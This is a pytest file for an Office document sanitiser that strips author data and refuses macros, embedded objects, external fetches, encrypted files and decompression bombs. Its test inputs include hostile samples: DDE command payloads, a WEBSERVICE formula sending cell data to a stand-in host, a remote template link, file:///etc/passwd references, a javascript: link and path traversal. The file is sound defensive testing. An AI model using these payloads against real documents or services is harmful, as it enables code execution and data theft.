"""Office files: whole ones are packed again without persons; what runs, reaches out or swells is refused."""

from __future__ import annotations

import zipfile
from io import BytesIO

import pytest
import xlsxwriter

from models.errors import Invalid
from models.files import office_cleaner, offices
from models.files.limits import MOST_OFFICE_PARTS
from tests.media import PACKAGE, RELATIONS, TYPES, open_document, packed, text_document

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def refused(data: bytes) -> str:
    with pytest.raises(Invalid) as refusal:
        office_cleaner.make(data)
    return refusal.value.faults[0].code


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(BytesIO(data)) as file:
        return {info.filename: file.read(info) for info in file.infolist()}


def sheet_with_chart() -> bytes:
    out = BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as book:
        sheet = book.add_worksheet()
        sheet.write(0, 0, 3)
        chart = book.add_chart({"type": "column"})
        chart.add_series({"values": "=Sheet1!$A$1:$A$1"})
        sheet.insert_chart("C3", chart)
        sheet.write_url("A2", "https://example.org/")
        book.set_properties({"title": "Số liệu", "author": "Nguyen Van Mau"})
    return out.getvalue()


def sheet_with_formula(formula: str) -> bytes:
    """A sheet with a formula, as XML writes it."""
    parts = parts_of(sheet_with_chart())
    sheet = "xl/worksheets/sheet1.xml"
    parts[sheet] = parts[sheet].replace(b"<v>3</v>", f"<f>{formula}</f><v>3</v>".encode())
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        for name, part in parts.items():
            file.writestr(name, part)
    return out.getvalue()


def relation(kind: str, target: str, *, external: bool = False) -> str:
    mode = ' TargetMode="External"' if external else ""
    return RELATIONS % f'<Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'


@pytest.mark.parametrize(
    ("data", "format", "title"),
    [
        (text_document(), "docx", "Kế hoạch"),
        (sheet_with_chart(), "xlsx", "Số liệu"),
        (open_document(), "odt", "Văn bản mở"),
        (open_document(kind="spreadsheet"), "ods", "Văn bản mở"),
    ],
)
def test_a_whole_file_keeps_its_parts_and_its_title_but_no_person(
    data: bytes, format: str, title: str
) -> None:
    made = office_cleaner.make(data)
    assert dict(made.facts) == {"format": format, "title": title}
    cleaned = parts_of(made.parts["document"])
    assert cleaned.keys() == parts_of(data).keys()
    assert b"Nguyen Van Mau" not in b"".join(cleaned.values())
    assert title in "".join(part.decode(errors="ignore") for part in cleaned.values())


def test_the_process_that_decodes_reads_it_with_its_doors_shut() -> None:
    made = offices.read(sheet_with_chart(), 1_000_000)
    assert (made.format, made.title) == ("xlsx", "Số liệu")


def test_the_same_file_always_becomes_the_same_bytes_whatever_hangs_on_it() -> None:
    plain = text_document()
    first, again = (office_cleaner.make(data).parts["document"] for data in (plain, plain + b"MZ hidden"))
    assert first == again
    assert office_cleaner.make(first).parts["document"] == first


@pytest.mark.parametrize(
    "data",
    [
        text_document({"word/vbaProject.bin": b"x"}),
        text_document({"word/_rels/document.xml.rels": relation("oleObject", "embeddings/a.bin")}),
        text_document({"word/embeddings/oleObject1.bin": b"x"}),
        text_document({"word/setup.exe": b"MZ"}),
        text_document({"word/page.html": "<p/>"}),
        text_document(types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
        text_document(
            body="<w:p><w:r><w:instrText>DDEAU</w:instrText><w:instrText>TO cmd</w:instrText></w:r></w:p>"
        ),
        text_document(body='<w:fldSimple w:instr="DDE cmd"/>'),
        text_document(body='<w:fldSimple w:instr="MACROBUTTON Mau bấm đây"/>'),
        sheet_with_formula("cmd|'/c calc'!A1"),
        sheet_with_formula("1+CALL(&quot;a&quot;,&quot;b&quot;)"),
        open_document(
            body='<table:table-cell xmlns:table="urn:t" table:formula="of:=DDE(&quot;soffice&quot;;A1)"/>'
        ),
        text_document(body="<w:control/>"),
        text_document(body="<w:altChunk/>"),
        open_document({"Basic/Standard/Module1.xml": "<x/>"}),
        open_document({"Scripts/python/a.py": "x"}),
        open_document(body="<script:event-listener/>"),
        open_document(body="<draw:plugin/>"),
        open_document(body="<text:dde-connection-decl/>"),
    ],
)
def test_what_can_run_is_refused(data: bytes) -> None:
    assert refused(data) == "upload_office_active"


@pytest.mark.parametrize(
    "data",
    [
        text_document(
            {
                "word/_rels/settings.xml.rels": relation(
                    "attachedTemplate", "http://a.example/x", external=True
                )
            }
        ),
        text_document(
            {"word/_rels/document.xml.rels": relation("image", "file:///etc/passwd", external=True)}
        ),
        text_document(
            {"word/_rels/document.xml.rels": relation("hyperlink", "file://host/share", external=True)}
        ),
        open_document(body='<draw:image xlink:href="http://a.example/x.png"/>'),
        open_document(body='<draw:image xlink:href="../x.png"/>'),
        text_document(body="<w:fldSimple w:instr='INCLUDEPICTURE &quot;http://a.example/x&quot; \\d'/>"),
        text_document(body="<w:fldSimple w:instr='HYPERLINK &quot;javascript:alert(1)&quot;'/>"),
        text_document(body="<w:r><w:instrText>INCLUDETEXT</w:instrText></w:r>"),
        sheet_with_formula("WEBSERVICE(&quot;http://a.example/&quot;&amp;A2)"),
    ],
)
def test_what_is_fetched_from_elsewhere_is_refused(data: bytes) -> None:
    assert refused(data) == "upload_office_reaches_out"


def test_links_that_a_reader_follows_and_pictures_within_may_stay() -> None:
    link = relation("hyperlink", "https://example.org/", external=True)
    kept = [
        text_document({"word/_rels/document.xml.rels": link, "word/media/a.png": b"png"}),
        open_document({"Pictures/a.png": b"png"}, body='<text:a xlink:href="https://a.example"/>'),
        open_document(body='<draw:image xlink:href="Pictures/a.png"/>'),
    ]
    assert [office_cleaner.make(data).facts["format"] for data in kept] == ["docx", "odt", "odt"]


@pytest.mark.parametrize(
    "data",
    [
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage".encode("utf-16-le"),
        open_document({"META-INF/manifest.xml": '<m xmlns:x="urn:x"><x:encryption-data/></m>'}),
    ],
)
def test_what_a_password_hides_is_refused(data: bytes) -> None:
    assert refused(data) == "upload_encrypted"


@pytest.mark.parametrize(
    "data",
    [
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
        packed({"a.txt": "x"}),
        packed({"mimetype": "application/epub+zip"}),
        packed({"mimetype": "application/vnd.oasis.opendocument.text-template", "content.xml": "<x/>"}),
        packed({"[Content_Types].xml": TYPES % ""}),
    ],
)
def test_another_format_whatever_it_is_called_is_refused(data: bytes) -> None:
    assert refused(data) == "upload_office_unknown"


@pytest.mark.parametrize(
    "data",
    [
        b"PK\x03\x04" + bytes(30),
        text_document()[:-40],
        text_document({"../../etc/cron.xml": "<x/>"}),
        text_document({"word/styles.xml": "<not closed>"}),
        text_document({"word/styles.xml": '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}),
        text_document({"WORD/document.xml": "<x/>"}),
        packed({"mimetype": "application/vnd.oasis.opendocument.text"}, compression=zipfile.ZIP_BZIP2),
    ],
)
def test_a_damaged_container_is_refused(data: bytes) -> None:
    assert refused(data) == "upload_office_damaged"


def test_one_that_swells_is_refused_whatever_it_says_of_its_size(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(office_cleaner, "MOST_OFFICE_UNFOLDED", 100_000)
    assert refused(text_document({"word/media/a.png": bytes(200_000)})) == "upload_too_costly"


def test_too_many_parts_are_refused() -> None:
    many = {f"word/{n}.xml": "" for n in range(MOST_OFFICE_PARTS)}
    assert refused(text_document(many)) == "upload_too_costly"


def test_the_sheet_behind_a_chart_is_looked_at_and_no_deeper() -> None:
    within = text_document({"word/embeddings/a.xlsx": sheet_with_chart()})
    assert b"Nguyen Van Mau" not in b"".join(
        parts_of(parts_of(office_cleaner.make(within).parts["document"])["word/embeddings/a.xlsx"]).values()
    )
    evil = text_document({"word/embeddings/a.docx": text_document({"word/vbaProject.bin": b"x"})})
    assert refused(evil) == "upload_office_active"
    assert refused(text_document({"word/embeddings/a.docx": within})) == "upload_too_costly"


def test_properties_are_known_by_what_they_are_and_not_by_their_name() -> None:
    renamed = TYPES.replace("/docProps/core.xml", "/who.xml") % ""
    data = packed(
        {
            "[Content_Types].xml": renamed,
            "word/document.xml": "<x/>",
            "who.xml": f'<a xmlns="{PACKAGE}">Nguyen Van Mau</a>',
        }
    )
    assert b"Nguyen" not in parts_of(office_cleaner.make(data).parts["document"])["who.xml"]


@pytest.mark.parametrize(
    "instr",
    ["HYPERLINK &quot;https://example.org/link/include&quot;", "HYPERLINK \\l &quot;Muc_1&quot;", "PAGE"],
)
def test_fields_that_lead_readers_or_count_may_stay(instr: str) -> None:
    data = text_document(body=f"<w:fldSimple w:instr='{instr}'/>")

    assert office_cleaner.make(data).facts["format"] == "docx"


def test_formulas_that_reckon_may_stay() -> None:
    data = sheet_with_formula("IF(A1&gt;2,SUM(A1:A9),&quot;WEBSERVICE(ít|nhiều)&quot;)")

    assert office_cleaner.make(data).facts["format"] == "xlsx"


def test_elements_within_elements_have_an_end() -> None:
    deep = "<w:p>" * 1000 + "</w:p>" * 1000

    assert refused(text_document(body=deep)) == "upload_too_costly"
